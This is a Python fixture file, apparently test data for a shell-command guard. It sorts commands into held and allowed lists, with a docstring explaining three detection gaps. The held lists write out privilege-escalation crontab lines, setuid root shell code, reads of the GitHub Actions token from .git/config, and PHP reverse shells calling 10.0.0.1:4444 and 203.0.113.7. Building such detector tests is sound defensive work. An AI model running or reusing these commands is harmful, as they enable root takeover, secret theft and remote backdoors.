"""Gaps closed by wave21a (session 19), each a class rather than a line.

- ``tee_written``: text piped into ``tee`` is what tee writes, judged by the privilege rules as the same
  text written with ``>`` is (``echo '* * * * * root chmod +s /bin/bash' | sudo tee /etc/cron.d/x`` was
  only asked as a scheduled task, ``echo … > /etc/cron.d/x`` blocked);
- ``checkout_token``: the ``GITHUB_TOKEN`` actions/checkout persists in ``.git/config`` (its
  ``http.https://github.com/.extraheader``) read back, as the tj-actions/changed-files compromise and the
  Shai-Hulud worm did: secret access;
- ``php_reverse_shell``: PHP written into a file that opens a socket and runs a shell whose command names
  no host (``exec("/bin/sh -i <&3 >&3 2>&3")``): a network backdoor.

The commands are variants written for the tests, not measured lines.
"""

from __future__ import annotations

HELD = {
    "tee_written": [
        "echo '* * * * * root chmod +s /bin/bash' | sudo tee /etc/cron.d/x",
        "printf '%s\\n' '*/5 * * * * root cp /bin/bash /tmp/rb; chmod 4755 /tmp/rb' | tee -a /etc/crontab",
        "echo 'int main(){setuid(0);system(\"/bin/sh\");}' | tee /tmp/r.c >/dev/null",
        "echo /bin/sh | tee /tmp/ls",
    ],
    "checkout_token": [
        "grep AUTHORIZATION .git/config",
        "git config --get http.https://github.com/.extraheader",
        "cat .git/config | grep extraheader",
        "git config --local --get-regexp 'http.*extraheader'",
        "git config -l | grep -i authorization",
        "sed -n '/extraheader/p' ./.git/config",
    ],
    "php_reverse_shell": [
        'echo \'<?php $sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>\' > shell.php',
        "printf '%s' '<?php $s=fsockopen(\"203.0.113.7\",443);shell_exec(\"bash -i <&3 >&3 2>&3\");' > x.php",
        'echo \'<?php $sock=fsockopen("10.0.0.1",4444);$p=proc_open("/bin/sh -i", array(0=>$sock, '
        "1=>$sock, 2=>$sock),$pipes); ?>' > /var/www/html/up.php",
        'echo \'<?php $sock=fsockopen("10.0.0.1",4444);popen("sh <&3 >&3 2>&3", "r"); ?>\' | tee s.php',
    ],
}

ALLOWED = [
    # tee of ordinary text
    "echo 'vm.max_map_count=262144' | tee -a local.conf",
    "printf '%s\\n' 'chmod +x build.sh' | tee -a notes.txt",
    # the rest of a repository's configuration, and actions/checkout's own clean-up
    "git config --get remote.origin.url",
    "cat .git/config",
    "grep url .git/config",
    "git config --local --name-only --get-regexp 'http\\.https\\:\\/\\/github\\.com\\/\\.extraheader'",
    "git config --local --unset-all http.https://github.com/.extraheader",
    "grep -rn Authorization src/",
    # PHP with a socket but no shell, or a command but no socket
    'echo \'<?php $fp=fsockopen("www.example.com",80);fwrite($fp,"GET / HTTP/1.0\\r\\n\\r\\n");\' > t.php',
    "echo '<?php exec(\"ls -la\", $out); print_r($out); ?>' > list.php",
    'echo \'<?php $fp=fsockopen("localhost",6379); exec("git status"); ?>\' > health.php',
]
